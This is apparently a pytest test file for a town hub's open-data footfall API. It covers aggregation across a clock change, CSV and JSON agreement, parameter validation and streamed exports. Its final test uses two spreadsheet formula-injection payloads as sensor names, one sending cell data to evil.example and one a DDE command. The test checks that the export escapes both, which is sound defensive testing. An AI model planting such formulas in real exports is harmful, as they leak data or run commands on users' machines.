"""Footfall as open data: the figures are exactly the stored counts, JSON and CSV agree,
every unusable request is a 400 (or 404) problem naming the parameter, and a long export
streams rather than being built in memory."""

from __future__ import annotations

import csv
import io
import tracemalloc
from datetime import UTC, datetime
from typing import Any

import pytest
from flask.testing import FlaskClient
from sqlalchemy import func, select, text

from tests.factories import PURLEY, make_hub, make_sensor
from townhub.api.service import LICENCE_URL
from townhub.common import geo
from townhub.extensions import db
from townhub.footfall.models import FootfallCount, FootfallRollup
from townhub.footfall.rollups import rebuild
from townhub.footfall.service import record_count
from townhub.sensors.models import Sensor

PURLEY_BOX = [(-0.1200, 51.3340), (-0.1100, 51.3340), (-0.1100, 51.3400), (-0.1200, 51.3400)]
# From Saturday 29 March 2025 to the end of Monday 31 March, London time: the clocks went
# forward at 01:00 UTC on Sunday 30 March, so that London day is 23 hours long.
PERIOD = "from=2025-03-29&to=2025-04-01"
FOOTFALL = "/api/v1/hubs/south-norwood/footfall"


def _at(text: str) -> datetime:
    return datetime.fromisoformat(text).replace(tzinfo=UTC)


@pytest.fixture
def sensors() -> dict[str, Sensor]:
    """Two counters on South Norwood and one on Purley, with 15-minute counts, rolled up."""
    hub = make_hub(slug="south-norwood", name="South Norwood")
    other = make_hub(slug="purley", name="Purley", ring=PURLEY_BOX)
    clock = make_sensor(hub=hub, name="Clock tower")
    station = make_sensor(hub=hub, name='Station Road, by the "Bus Stop"')
    purley = make_sensor(hub=other, name="Purley Cross", location=geo.point(*PURLEY))
    counts = [
        (clock, "2025-03-29T10:15", 5),
        (clock, "2025-03-29T10:30", 7),
        (clock, "2025-03-29T11:15", 11),
        (clock, "2025-03-30T10:15", 13),
        (station, "2025-03-29T10:15", 100),
        (station, "2025-03-30T23:30", 1000),  # 00:30 on Monday 31 March in London
        (purley, "2025-03-29T10:15", 99999),
        (clock, "2025-04-01T00:15", 77777),  # after the period
    ]
    for n, (sensor, measured, people) in enumerate(counts):
        record_count(sensor, _at(measured), 15, people, f"api-test:{n}")
    rebuild([clock.id, station.id, purley.id])
    return {"clock": clock, "station": station, "purley": purley}


def _json(client: FlaskClient, query: str) -> dict[str, Any]:
    response = client.get(f"{FOOTFALL}?{query}")
    assert response.status_code == 200, response.get_data(as_text=True)
    assert response.mimetype == "application/json"
    body: dict[str, Any] = response.get_json()
    return body


def _csv(client: FlaskClient, query: str) -> list[dict[str, str]]:
    response = client.get(f"{FOOTFALL}.csv?{query}")
    assert response.status_code == 200, response.get_data(as_text=True)
    assert response.mimetype == "text/csv"
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


def test_hourly_footfall_per_sensor_is_exactly_what_was_counted(
    client: FlaskClient, sensors: dict[str, Sensor]
) -> None:
    clock, station = sensors["clock"].id, sensors["station"].id

    body = _json(client, f"{PERIOD}&interval=hour")

    assert [
        (b["start"], b["end"], b["people"], b["readings"], b["sensors"]) for b in body["buckets"]
    ] == [
        (
            "2025-03-29T10:00:00+00:00",
            "2025-03-29T11:00:00+00:00",
            112,
            3,
            [
                {"id": clock, "people": 12, "readings": 2},
                {"id": station, "people": 100, "readings": 1},
            ],
        ),
        (
            "2025-03-29T11:00:00+00:00",
            "2025-03-29T12:00:00+00:00",
            11,
            1,
            [{"id": clock, "people": 11, "readings": 1}],
        ),
        (
            "2025-03-30T11:00:00+01:00",
            "2025-03-30T12:00:00+01:00",
            13,
            1,
            [{"id": clock, "people": 13, "readings": 1}],
        ),
        (
            "2025-03-31T00:00:00+01:00",
            "2025-03-31T01:00:00+01:00",
            1000,
            1,
            [{"id": station, "people": 1000, "readings": 1}],
        ),
    ]
    assert body["hub"]["slug"] == "south-norwood"
    assert (body["interval"], body["aggregate"]) == ("hour", "sensor")
    assert (body["from"], body["to"]) == ("2025-03-29T00:00:00+00:00", "2025-04-01T00:00:00+01:00")
    assert [s["id"] for s in body["sensors"]] == [clock, station]
    assert body["metadata"]["licence"]["url"] == LICENCE_URL


def test_daily_footfall_per_hub_follows_london_days_across_the_clock_change(
    client: FlaskClient, sensors: dict[str, Sensor]
) -> None:
    body = _json(client, f"{PERIOD}&interval=day&aggregate=hub")

    assert body["buckets"] == [
        {
            "start": "2025-03-29T00:00:00+00:00",
            "end": "2025-03-30T00:00:00+00:00",
            "people": 123,
            "readings": 4,
            "sensors_reporting": 2,
        },
        {
            "start": "2025-03-30T00:00:00+00:00",
            "end": "2025-03-31T00:00:00+01:00",  # 23 hours
            "people": 13,
            "readings": 1,
            "sensors_reporting": 1,
        },
        {
            "start": "2025-03-31T00:00:00+01:00",
            "end": "2025-04-01T00:00:00+01:00",
            "people": 1000,
            "readings": 1,
            "sensors_reporting": 1,
        },
    ]


def test_quarter_hours_and_a_chosen_sensor(client: FlaskClient, sensors: dict[str, Sensor]) -> None:
    clock = sensors["clock"].id

    body = _json(
        client, f"from=2025-03-29T10:00Z&to=2025-03-29T11:00Z&interval=15min&sensor={clock}"
    )

    assert [(b["start"], b["people"]) for b in body["buckets"]] == [
        ("2025-03-29T10:00:00+00:00", 5),
        ("2025-03-29T10:15:00+00:00", 7),
    ]
    assert [s["id"] for s in body["sensors"]] == [clock]


@pytest.mark.parametrize(
    "query",
    [
        f"{PERIOD}&interval=hour",
        f"{PERIOD}&interval=15min",
        f"{PERIOD}&interval=day",
        f"{PERIOD}&interval=hour&aggregate=hub",
        f"{PERIOD}&interval=day&aggregate=hub",
    ],
)
def test_csv_and_json_agree(client: FlaskClient, sensors: dict[str, Sensor], query: str) -> None:
    body = _json(client, query)
    rows = _csv(client, query)

    if "aggregate=hub" in query:
        from_json = [
            (b["start"], b["end"], b["people"], b["readings"], b["sensors_reporting"])
            for b in body["buckets"]
        ]
        from_csv = [
            (
                r["bucket_start"],
                r["bucket_end"],
                int(r["people"]),
                int(r["readings"]),
                int(r["sensors_reporting"]),
            )
            for r in rows
        ]
    else:
        names = {s["id"]: s["name"] for s in body["sensors"]}
        from_json = [
            (b["start"], b["end"], s["id"], names[s["id"]], s["people"], s["readings"])
            for b in body["buckets"]
            for s in b["sensors"]
        ]
        from_csv = [
            (
                r["bucket_start"],
                r["bucket_end"],
                int(r["sensor_id"]),
                r["sensor_name"],
                int(r["people"]),
                int(r["readings"]),
            )
            for r in rows
        ]
    assert from_csv == from_json
    people = 2 if "aggregate=hub" in query else 4
    assert sum(int(row[people]) for row in from_csv) == 5 + 7 + 11 + 13 + 100 + 1000


def test_the_csv_is_a_download_that_says_its_licence(
    client: FlaskClient, sensors: dict[str, Sensor]
) -> None:
    response = client.get(f"{FOOTFALL}.csv?{PERIOD}&interval=day&aggregate=hub")

    assert response.headers["Link"] == f'<{LICENCE_URL}>; rel="license"'
    assert response.headers["Content-Disposition"] == (
        'attachment; filename="south-norwood-footfall-day-hub-20250329-20250401.csv"'
    )
    assert response.headers["Access-Control-Allow-Origin"] == "*"
    assert response.get_data(as_text=True).splitlines()[0] == (
        "bucket_start,bucket_end,people,readings,sensors_reporting"
    )


def test_a_period_with_no_counts_has_no_buckets(
    client: FlaskClient, sensors: dict[str, Sensor]
) -> None:
    assert _json(client, "from=2024-01-01&to=2024-02-01&interval=day")["buckets"] == []
    assert _csv(client, "from=2024-01-01&to=2024-02-01&interval=day") == []


@pytest.mark.parametrize(
    ("query", "parameter", "limit"),
    [
        ("to=2025-01-02", "from", None),
        ("from=2025-01-01", "to", None),
        ("from=yesterday&to=2025-01-02", "from", None),
        ("from=2025-01-01&to=2025-13-01", "to", None),
        ("from=2025-01-01T10:00+25:00&to=2025-01-02", "from", None),
        ("from=0001-01-01&to=0001-01-02", "from", None),
        ("from=2025-01-02&to=2025-01-01", "to", None),
        ("from=2025-01-01&to=2025-01-01", "to", None),
        ("from=2025-01-01&to=2025-02-01T00:00:01Z&interval=15min", "to", "P31D"),
        ("from=2024-01-01&to=2025-01-02&interval=hour", "to", "P366D"),
        ("from=2024-01-01&to=2025-01-02", "to", "P366D"),  # hour is the default
        ("from=2020-01-01&to=2025-01-01T00:00:01&interval=day", "to", "P5Y"),
        ("from=2025-01-01&to=2025-01-02&interval=week", "interval", None),
        ("from=2025-01-01&to=2025-01-02&interval=", "interval", None),
        ("from=2025-01-01&to=2025-01-02&aggregate=street", "aggregate", None),
        ("from=2025-01-01&to=2025-01-02&sensor=clock", "sensor", None),
        ("from=2025-01-01&to=2025-01-02&sensor=-1", "sensor", None),
        ("from=2025-01-01&to=2025-01-02&sensor=%C2%B2", "sensor", None),  # a superscript 2
        ("from=2025-01-01&to=2025-01-02&sensor=" + "9" * 5000, "sensor", None),
        ("from=20250101&to=20250102", "from", None),  # ISO 8601, but not the extended form
    ],
)
@pytest.mark.parametrize("suffix", ["", ".csv"])
def test_an_unusable_request_is_a_400_problem_naming_the_parameter(
    client: FlaskClient,
    sensors: dict[str, Sensor],
    query: str,
    parameter: str,
    limit: str | None,
    suffix: str,
) -> None:
    stored = db.session.scalar(select(func.count()).select_from(FootfallRollup))

    response = client.get(f"{FOOTFALL}{suffix}?{query}")

    assert response.status_code == 400
    assert response.mimetype == "application/problem+json"
    problem = response.get_json()
    assert (problem["status"], problem["title"]) == (400, "Bad Request")
    assert problem["invalid-params"][0]["name"] == parameter
    assert parameter in problem["detail"]
    assert problem.get("limit") == limit
    if limit:
        words = {"P31D": "31 days", "P366D": "366 days", "P5Y": "5 years"}[limit]
        assert words in problem["detail"]
    assert db.session.scalar(select(func.count()).select_from(FootfallRollup)) == stored
    assert db.session.scalar(select(func.count()).select_from(FootfallCount)) == 8


@pytest.mark.parametrize(
    "query",
    [
        "from=2025-01-01&to=2025-02-01&interval=15min",
        "from=2024-01-01&to=2025-01-01&interval=hour",
        "from=2020-01-01&to=2025-01-01&interval=day",
        "from=2020-02-29&to=2025-03-01&interval=day",
        "from=2025-01-01T09:00:00&to=2025-01-01T09:00:01",
    ],
)
def test_the_longest_periods_allowed(
    client: FlaskClient, sensors: dict[str, Sensor], query: str
) -> None:
    assert _json(client, query)["buckets"] == []


def test_a_sensor_of_another_hub_is_unknown_here(
    client: FlaskClient, sensors: dict[str, Sensor]
) -> None:
    purley = sensors["purley"].id

    asked = {
        str(purley): str(purley),
        f"{sensors['clock'].id},{purley}": str(purley),
        "999999999999999999": "999999999999999999",
    }
    for sensor, unknown in asked.items():
        response = client.get(f"{FOOTFALL}?{PERIOD}&sensor={sensor}")

        assert response.status_code == 404
        assert response.mimetype == "application/problem+json"
        problem = response.get_json()
        assert problem["invalid-params"][0]["name"] == "sensor"
        # Another hub's sensor is as unknown as one that does not exist: nothing about it.
        assert problem["detail"] == f"This hub has no sensor {unknown}."


def test_a_long_export_streams_a_chunk_at_a_time(client: FlaskClient) -> None:
    """A year of hourly figures for 30 sensors is 262,800 rows: the export must never hold
    them all. Here 30 sensors for 120 days (86,400 rows): the memory Python uses while
    streaming stays far below the size of the file."""
    hub = make_hub(slug="south-norwood")
    ids = [make_sensor(hub=hub).id for _ in range(30)]
    db.session.execute(
        text(
            "INSERT INTO footfall_rollups (sensor_id, grain, bucket_start, people, readings) "
            "SELECT s, '1h', t, (s * 7 + extract(hour FROM t))::int, 4 "
            "FROM unnest(CAST(:ids AS int[])) AS s, generate_series("
            "TIMESTAMPTZ '2025-01-01 00:00Z', TIMESTAMPTZ '2025-04-30 23:00Z', '1 hour') AS t"
        ),
        {"ids": ids},
    )

    response = client.get(
        f"{FOOTFALL}.csv?from=2025-01-01T00:00Z&to=2025-05-01T00:00Z&interval=hour",
        buffered=False,
    )
    assert response.is_streamed
    tracemalloc.start()
    try:
        sizes = [len(chunk) for chunk in response.response]
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
        response.close()

    assert len(sizes) > 80
    assert sum(sizes) > 6_000_000
    assert peak < sum(sizes) / 4, f"peak {peak:,} bytes for {sum(sizes):,} bytes of CSV"


def test_a_sensor_name_cannot_become_a_spreadsheet_formula(
    client: FlaskClient, sensors: dict[str, Sensor]
) -> None:
    sensors["clock"].name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    sensors["station"].name = "+cmd|' /C calc'!A0"
    db.session.flush()
    rows = _csv(client, f"{PERIOD}&interval=day")
    names = {row["sensor_name"] for row in rows}
    assert names == {'\'=HYPERLINK("http://evil.example/?"&A1,"Click")', "'+cmd|' /C calc'!A0"}
    # The JSON keeps the name as typed: it is data, not a sheet.
    body = _json(client, f"{PERIOD}&interval=day")
    assert sensors["clock"].name in {s["name"] for s in body["sensors"]}
